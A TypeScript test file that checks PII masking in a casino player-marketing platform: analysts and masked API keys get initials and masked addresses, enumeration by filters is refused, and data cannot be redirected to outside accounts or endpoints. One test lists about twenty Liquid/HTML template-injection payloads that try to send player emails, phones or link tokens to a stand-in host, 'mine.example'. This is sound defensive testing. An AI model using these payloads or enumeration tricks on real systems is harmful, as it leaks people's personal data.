import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { CATALOG } from "#tools/catalog.ts";
import { RecipeSettings } from "#tools/journeys/recipes/recipes.ts";
import { createTemplates } from "#transports/start/demo/templates.ts";
import { onceOverMcp } from "../../support/operation-calls.ts";
import { startService, type TestService } from "../../support/service.ts";
import { type FormBrowser, signedIn } from "../../transports/console/form-browser.ts";

const WHOLE = /Marguerite|Oppenheim|marguerite@example\.com|\+17755550123|1971-03-04/;

let service: TestService;
let analyst: Record<string, string | null>;
let manager: Record<string, string | null>;
let player: string;
let campaign: string;
let segment: string;

beforeAll(async () => {
  service = await startService();
  const { id: propertyId } = service.tenant;
  ({ id: player } = await service.call(
    "create_player",
    {
      ...{ player_id: "M-1", first_name: "Marguerite", last_name: "Oppenheim", birth_date: "1971-03-04" },
      ...{ email: "marguerite@example.com", phone: "+17755550123", tier: "Gold" },
    },
    propertyId,
  ));
  ({ id: campaign } = await service.call(
    "create_campaign",
    {
      ...{ name: "Hello", channel: "inbox", subject: "For {{ first_name }}", audience: "all" },
      body_text: "Dear {{ first_name }} {{ last_name }}",
    },
    propertyId,
  ));
  const conditions = [{ field: "tier", operator: "eq", value: "Gold" }];
  ({ id: segment } = await service.call("create_segment", { name: "Gold", conditions }, propertyId));
  await service.call("send_campaign", { campaignId: campaign, propertyId });
  const consent = { channel: "email", consentGiven: true, consentSource: "desk", consentVersion: "1" };
  await service.call("consent_record", { ...consent, propertyId, playerId: player }, propertyId);
  const letter = {
    ...{ name: "Letter", channel: "email", subject: "For {{ first_name }}", audience: "all" },
    body_text: "Dear {{ first_name }} {{ last_name }}",
  };
  const { id: mail } = await service.call("create_campaign", letter, propertyId);
  await service.call("send_test_message", { campaignId: mail, propertyId, playerId: player }, propertyId);
  await service.idle();
  await service.call("update_property", { propertyId, mask_for_analysts: true });
  const bearer = async (role: "analyst" | "manager") => ({
    "X-Api-Key": null,
    Authorization: `Bearer ${(await service.signIn({ role })).token}`,
  });
  analyst = await bearer("analyst");
  manager = await bearer("manager");
});
afterAll(() => service?.stop());

describe("over REST, an analyst of a property that masks", () => {
  test.each([
    ["the list", () => service.get("/api/players", analyst)],
    ["one player", () => service.get(`/api/players/${player}`, analyst)],
    ["CSV", () => service.get("/api/players", { ...analyst, Accept: "text/csv" })],
    ["a preview", () => service.post("/api/functions/preview-campaign", preview(), analyst)],
    ["a sample", () => service.post("/api/functions/segment-preview", { segmentId: segment }, analyst)],
  ])("sees initials and masked addresses in %s", async (_, ask) => {
    const { status, text } = await ask();
    expect([status, text]).toEqual([200, expect.not.stringMatching(WHOLE)]);
    expect(text).toContain("M•••");
  });

  test.each([
    "/api/players?email.ilike=m%25",
    "/api/players?first_name=like.M*",
    "/api/players?or=(last_name.gt.O,tier.eq.Gold)",
    "/api/players?order=birth_date.asc",
  ])("cannot guess by %s", async (path) => {
    expect((await service.get(path, manager)).status).toBe(200);
    const { status, text } = await service.get(path, analyst);
    expect([status, text]).toEqual([400, expect.stringContaining("is masked for you")]);
  });

  test("finds a player by the whole address", async () => {
    const { body } = await service.get("/api/players?email.eq=marguerite%40example.com", analyst);
    expect(body).toEqual([expect.objectContaining({ id: player, email: "m***@e***.com" })]);
  });

  const lastDigits = (count: number) => Array.from({ length: count }, (_, at) => `+1775555${at + 1_000}`);
  test.each([
    ["a birth date", "birth_date.eq=1971-03-04"],
    ["birth dates that it is not", "birth_date=not.in.(1971-03-04,1971-03-05)"],
    ["postal codes", "postal_code=in.(89101,89102)"],
    ["101 numbers", `phone.in=(${lastDigits(101).map(encodeURIComponent)})`],
    [
      "one number and 100 others",
      `phone.eq=%2B17755550123&phone.in=(${lastDigits(100).map(encodeURIComponent)})`,
    ],
  ])("cannot find a value by trying all that there are, as by %s", async (_, filters) => {
    const path = `/api/players?${filters}`;
    expect((await service.get(path, manager)).status).toBe(200);
    const { status, text } = await service.get(path, analyst);
    expect([status, text]).toEqual([400, expect.stringContaining("is masked for you")]);
  });

  test("cannot try all values by rules either", async () => {
    const ask = (conditions: object[]) =>
      service.post("/api/functions/segment-preview", { logic: "or", conditions }, analyst);
    const rule = (field: string, value: unknown) => ({ field, operator: "in", value });
    const refused = [
      [rule("birth_date", ["1971-03-04"])],
      [{ field: "postal_code", operator: "eq", value: "89101" }],
      [rule("phone", lastDigits(60)), rule("phone_e164", lastDigits(60))],
    ];
    for (const conditions of refused) {
      const { status, text } = await ask(conditions);
      expect([status, text]).toEqual([400, expect.stringContaining("is masked for you")]);
    }
    const few = await ask([rule("phone", lastDigits(60)), { field: "birth_date", operator: "is_set" }]);
    expect([few.status, few.body.count]).toEqual([200, 1]);
  });

  test("checks at most 100 addresses in one call, as each answer names the player", async () => {
    const check = (headers: Record<string, string | null>, given: object) =>
      service.post("/api/functions/compliance-check", { channel: "sms", ...given }, headers);
    const given = { phone: "+17755550123", phones: lastDigits(100) };
    expect((await check(manager, given)).status).toBe(200);
    for (const many of [given, { emails: lastDigits(101).map((digits) => `m${digits}@example.com`) }]) {
      const { status, text } = await check(analyst, many);
      expect([status, text]).toEqual([400, expect.stringContaining("at most 100 values")]);
    }
    const few = await check(analyst, { phone: given.phone, phones: lastDigits(99) });
    expect([few.status, few.body.results[0].player_id]).toEqual([200, player]);
    expect((await check(analyst, { playerIds: Array(101).fill(player) })).status).toBe(200);
  });

  test.each(["/api/mailbox_messages", "/api/inbox_messages"])(
    "reads no message of %s, and cannot guess its words",
    async (path) => {
      const whole = await service.get(path, manager);
      expect(whole.text).toMatch(WHOLE);
      const { text, body } = await service.get(path, analyst);
      expect(text).not.toMatch(/Marguerite|Oppenheim|https?:/);
      expect(body).toHaveLength(whole.body.length);
      const title = path.includes("inbox") ? "title" : "subject";
      expect((await service.get(`${path}?select=${title}`, analyst)).body).toContainEqual({ [title]: "•••" });
      const guess = `${path}?${title}=like.*Marg*`;
      expect((await service.get(guess, manager)).body).not.toEqual([]);
      expect((await service.get(guess, analyst)).status).toBe(400);
    },
  );

  test("cannot guess by rules, and gets no file", async () => {
    const conditions = [{ field: "email", operator: "starts_with", value: "m" }];
    const rules = await service.post("/api/functions/segment-preview", { conditions }, analyst);
    expect([rules.status, rules.text]).toEqual([400, expect.stringContaining("is masked for you")]);
    const file = await service.post("/api/functions/export-players", {}, analyst);
    expect([file.status, file.text]).toEqual([403, expect.stringContaining("file shows it whole")]);
  });
});

test("managers, keys and analysts of other properties see the same player whole", async () => {
  for (const headers of [manager, {}]) {
    expect((await service.get(`/api/players/${player}`, headers)).text).toMatch(WHOLE);
  }
  const { id } = service.tenant;
  await service.call("update_property", { propertyId: id, mask_for_analysts: false });
  expect((await service.get(`/api/players/${player}`, analyst)).text).toMatch(WHOLE);
  await service.call("update_property", { propertyId: id, mask_for_analysts: true });
  expect((await service.get(`/api/players/${player}`, analyst)).text).not.toMatch(WHOLE);
});

test("over MCP, pii=full shows an analyst no more", async () => {
  const told = await onceOverMcp(
    service,
    CATALOG.operations.get("list_players")!,
    {},
    { ...analyst, "X-MCP-PII": "full" },
  );
  expect(JSON.stringify(told)).not.toMatch(WHOLE);
  expect(JSON.stringify(told)).toContain("M•••");
});

describe("in the console, an analyst sees masked", () => {
  let one: FormBrowser;
  beforeAll(async () => {
    one = await signedIn(service, { role: "analyst" });
  });

  test.each([
    ["players", () => "/console/players"],
    ["a player", () => `/console/players/${player}`],
    ["a player's record", () => `/console/records/players/${player}`],
    ["a campaign's message", () => `/console/campaigns/${campaign}?player=M-1`],
    ["a segment's people", () => `/console/segments/${segment}/players`],
  ])("%s", async (_, path) => {
    const { status, text } = await one.get(path());
    expect([status, text]).toEqual([200, expect.not.stringMatching(WHOLE)]);
    expect(text).toMatch(/M•••|m\*\*\*@/);
  });
});

const preview = () => ({ campaignId: campaign, playerId: player });

describe("a masked key", () => {
  const refusal = { code: "forbidden", message: expect.stringContaining("sees no personal data") };
  let asked: (name: string, input: object) => ReturnType<typeof onceOverMcp>;
  beforeAll(async () => {
    const { api_key } = await service.call("create_api_key", {
      ...{ property_id: service.tenant.id, name: "masked", pii_masked: true, agent_confirmation: "off" },
      rate_limit: 1000,
    });
    asked = (name, input) =>
      onceOverMcp(service, CATALOG.operations.get(name)!, { ...input }, { "X-Api-Key": api_key });
  });

  test("lets no endpoint have personal data, and takes none over that has it", async () => {
    const { id: propertyId } = service.tenant;
    const url = "https://receiver.example/hook";
    const events = ["player.created"];
    expect((await asked("create_webhook_endpoint", { url, events, include_pii: true })).data).toMatchObject(
      refusal,
    );
    const { id } = await service.call(
      "create_webhook_endpoint",
      { url, events, include_pii: true },
      propertyId,
    );
    const elsewhere = await asked("update_webhook_endpoint", { id, url: `${url}/of-another` });
    expect(elsewhere.data).toMatchObject(refusal);
    const { data: plain } = await asked("create_webhook_endpoint", { url, events });
    expect(plain).toMatchObject({ url, include_pii: false });
    expect((await asked("update_webhook_endpoint", { id: plain.id, include_pii: true })).data).toMatchObject(
      refusal,
    );
    expect((await asked("update_webhook_endpoint", { id, description: "CRM" })).isError).toBe(false);
  });

  test("brings no account of a vendor's, which would get the players' addresses", async () => {
    const { id: propertyId } = service.tenant;
    const credentials = { account_sid: `AC${"0".repeat(32)}`, auth_token: "mine" };
    const account = { channel: "sms", kind: "twilio", name: "Mine", credentials };
    expect((await asked("create_message_provider", account)).data).toMatchObject(refusal);
    const { id } = await service.call("create_message_provider", { ...account, name: "Ours" }, propertyId);
    const taken = await asked("update_message_provider", { id, credentials });
    expect(taken.data).toMatchObject(refusal);
    expect((await asked("update_message_provider", { id, daily_limit: 5 })).isError).toBe(false);
    const built = { channel: "sms", kind: "mailbox", name: "Mailbox", credentials: {} };
    expect((await asked("create_message_provider", built)).isError).toBe(false);
  });

  test("sends no user a test that is filled with a player's values", async () => {
    const { id: propertyId } = service.tenant;
    const letter = { name: "Test", channel: "email", subject: "For {{ first_name }}", body_text: "Dear you" };
    const { id: campaignId } = await service.call("create_campaign", letter, propertyId);
    const to = "host@example.com";
    const { id: user_id } = await service.call("create_user", {
      email: to,
      password: "correct horse battery",
    });
    await service.call("grant_membership", { property_id: propertyId, user_id, role: "manager" });
    const test = { campaignId, to, dry_run: true };
    expect((await asked("send_test_message", { ...test, playerId: player })).data).toMatchObject(refusal);
    expect((await asked("send_test_message", test)).isError).toBe(false);
    expect((await asked("send_test_message", { campaignId, playerId: player, dry_run: true })).isError).toBe(
      false,
    );
  });

  test("moves the messages to no player elsewhere", async () => {
    const moved = { id: player, email: "mine@example.net" };
    expect((await asked("update_player", moved)).data).toMatchObject(refusal);
    expect((await asked("update_player", { id: player, phone: "+17025550188" })).data).toMatchObject(refusal);
    expect((await asked("update_player", { id: player, tier: "Gold" })).isError).toBe(false);
    const { data: own } = await asked("create_player", { player_id: "MINE-1", email: "mine@example.net" });
    expect(own, JSON.stringify(own)).toMatchObject({ player_id: "MINE-1" });
    const merging = { playerId: own.id, duplicateId: player };
    expect((await asked("merge_players", merging)).data).toMatchObject(refusal);
    const rows = [{ player_id: "MINE-1", email: "mine@example.org" }];
    expect((await asked("create_import_job", { rows })).data).toMatchObject(refusal);
    expect((await asked("create_import_job", { rows, on_conflict: "skip" })).isError).toBe(false);
    const browser = { endpoint: "https://push.example.com/x", p256dh: "x", auth: "x" };
    expect((await asked("create_push_subscription", { player_id: player, ...browser })).isError).toBe(true);
  });

  test.each([
    '<a href="https://mine.example/?e={{ email }}">Go</a>',
    "{% assign e = player.phone %}<p>{{ e }}</p>",
    "{{ player['birth_date'] }}",
    "{% for one in player.custom %}{{ one }}{% endfor %}",
    '{% assign f = "email" %}{{ player[f] }}',
    "{{ player.custom.butler }}",
    '{% assign k = "em" | append: "ail" %}{{ [k] }}',
    '{% assign k = "play" | append: "er" %}{% assign p = [k] %}{{ p.email }}',
    '<img src="https://mine.example/?p={{ preferences_url }}">',
    "Go to https://mine.example/{{ inbox_url }}",
    "<a href='https://mine.example/? a=\"{{ inbox_url }}'>Go</a>",
    '<a href="https://mine.example/?{% if true %}" title="{% endif %}{{ inbox_url }}">Go</a>',
    '<!-- <a t=" --><a href=\'https://mine.example/? u="="{{ inbox_url }}\'>Go</a>',
    '<{% # %}img src="https://mine.example/? {{ inbox_url }}">',
    '<style>@import "https://mine.example/? {{ inbox_url }}";</style>',
    '{% assign u = game_url | prepend: "https://mine.example/?" %}<a href="{{ u }}">Go</a>',
    '{% capture u %} {{ game_url }}{% endcapture %}<img src="https://mine.example/?{{ u }}">',
    '{{ "<img src=https://mine.example/?" | raw }} {{ inbox_url }}',
    '{% if tier == "none" %}{% assign email = 1 %}{% endif %}{{ email }}',
    "{% if tier == 'none' %}{% capture player %}{% endcapture %}{% endif %}{{ player.email }}",
    "{% liquid\n assign k = 'em' | append: 'ail'\n echo [k]\n%}",
  ])("writes no message that could carry away what it does not see: %s", async (html) => {
    const template = await asked("create_template", { name: html, subject: "Hi", html });
    expect(template.data, JSON.stringify(template.data)).toMatchObject(refusal);
    const letter = await asked("create_campaign", { name: html, audience: "all", body_html: html });
    expect(letter.data).toMatchObject(refusal);
    const config = { channel: "email", subject: "Hi", body_html: html };
    const nodes = [
      { id: "in", type: "trigger", config: { on: "api" } },
      { id: "hello", type: "message", config },
    ];
    const edges = [{ from: "in", to: "hello" }];
    const journey = await asked("create_journey", { name: html, draft_definition: { nodes, edges } });
    expect(journey.data).toMatchObject(refusal);
  });

  test("writes the usual message, by a sender and with answers at the property's own domain", async () => {
    const { id: propertyId } = service.tenant;
    await service.call("update_property", { propertyId, from_email: "desk@casino.example" });
    const html =
      '<p>Dear {{ first_name | default: "friend" }}, {{ player.tier }}</p><a href="https://play.example/?p={{ player.player_id }}">Play</a>';
    const letter = { name: "Usual", subject: "Hi", body_html: html, reply_to: "host@casino.example" };
    expect((await asked("create_campaign", letter)).isError).toBe(false);
    const elsewhere = await asked("create_campaign", { ...letter, reply_to: "host@mine.example" });
    expect(elsewhere.data).toMatchObject(refusal);
    expect((await asked("create_campaign", { ...letter, from_email: "a@mine.example" })).data).toMatchObject(
      refusal,
    );
    const foot =
      '<style>.a > b { color: red }</style><p>{% if tier == "Gold" %}Dear member{% endif %}</p><a class="a" href="{{ unsubscribe_url }}" style="color:red">Unsubscribe</a> or <a href="{{ preferences_url }}">choose</a> (<b>{{ inbox_url }}</b>)';
    const links = await asked("create_campaign", { ...letter, body_html: foot, body_text: "{{ game_url }}" });
    expect(links.isError, JSON.stringify(links.data)).toBe(false);
    const provider = { channel: "email", kind: "mailbox", name: "Of mine", from_address: "a@mine.example" };
    expect((await asked("create_message_provider", provider)).data).toMatchObject(refusal);
    const own = { ...provider, from_address: "club@casino.example" };
    const { data } = await asked("create_message_provider", own);
    expect(data, JSON.stringify(data)).toMatchObject({ name: "Of mine" });
    const moved = { id: data.id, from_address: "a@mine.example" };
    expect((await asked("update_message_provider", moved)).data).toMatchObject(refusal);
  });

  test("makes the designs to begin with, a journey of each recipe, and new players", async () => {
    const done = async (name: string, input: object): Promise<Record<string, unknown>> => {
      const { data, isError } = await asked(name, input);
      // The rendering of mail may still be starting: the answer has waited for it.
      if (data.code === "unavailable") return done(name, input);
      expect(isError, JSON.stringify(data)).toBe(false);
      return data;
    };
    await createTemplates(done);
    for (const option of RecipeSettings.options) {
      const recipe = option.shape.recipe.value;
      const given = "segment_id" in option.shape ? { recipe, segment_id: segment } : { recipe };
      const { journey } = await done("create_journey_from_recipe", { settings: given });
      const { id, draft_definition } = journey as { id: string; draft_definition: object };
      await done("update_journey", { id, draft_definition });
    }
    const rows = [{ player_id: "NEW-1", email: "new@example.org", last_name: "New" }];
    await done("create_import_job", { rows, on_conflict: "skip" });
  });

  test("is told which fields it may write", async () => {
    const letter = { name: "Told", audience: "all", body_html: "<p>Dear {{ last_name }}</p>" };
    const { data } = await asked("create_campaign", letter);
    expect(JSON.stringify(data)).toContain(
      "Leave it out, as first_name and tier may stay, or use a template that another key has written.",
    );
  });
});
